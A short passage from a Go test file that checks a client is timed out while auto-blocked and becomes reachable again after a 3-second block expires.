			t.Errorf("auto-blocked client: reachable=%v %+v (want a timeout)", ok, r)
		}
		if _, ok := w.waitReachable(t, 8*time.Second); !ok {
			t.Fatalf("client still blocked long after a 3s auto-block")
		}
	})
}
